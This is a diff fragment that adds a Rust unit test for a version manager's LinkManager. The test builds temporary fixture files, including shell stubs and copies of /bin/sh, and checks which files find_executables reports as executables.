+        // --- Setup ---
+        let root = tempfile::tempdir().unwrap();
+        let version_dir = root.path().join("v1.0.0");
+        let write = |path: &str, content: &str, mode: u32| {
+            use std::os::unix::fs::PermissionsExt;
+            let path = version_dir.join(path);
+            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+            std::fs::write(&path, content).unwrap();
+            std::fs::set_permissions(&path, std::fs::Permissions::from_mode(mode)).unwrap();
+        };
+        write("bin/tool", "not a script, but executable", 0o755);
+        write("bin/tool-helper", "#!/bin/sh\n", 0o644);
+        write("bin/README", "docs", 0o644);
+        write("scripts/setup.sh", "#!/usr/bin/env bash\n", 0o755);
+        write("install.sh", "#!/bin/sh\n", 0o644);
+        write("share/doc/README", "docs", 0o644);
+        std::fs::create_dir_all(version_dir.join("libexec")).unwrap();
+        std::fs::copy("/bin/sh", version_dir.join("libexec/native")).unwrap();
+        std::fs::copy("/bin/sh", version_dir.join("tool")).unwrap();
+        std::fs::copy("/bin/sh", version_dir.join("libexec/libnative.so")).unwrap();
+        std::os::unix::fs::symlink(version_dir.join("share"), version_dir.join("bin/share"))
+            .unwrap();
+        let manager = LinkManager::new(&RealRuntime);
+
+        // --- Execute ---
+        let executables = manager.find_executables(&version_dir).unwrap();
+
+        // --- Verify ---
+        // The top-level `tool` loses to `bin/tool`; outside `bin/` a script
+        // needs an execute bit, so `install.sh` is skipped, as are libraries
+        // and data files
+        let expected: Vec<PathBuf> = [
+            "bin/tool",
+            "bin/tool-helper",
+            "libexec/native",
+            "scripts/setup.sh",
+        ]
+        .iter()
+        .map(|path| version_dir.join(path))
+        .collect();
+        assert_eq!(executables, expected);
+    }
 }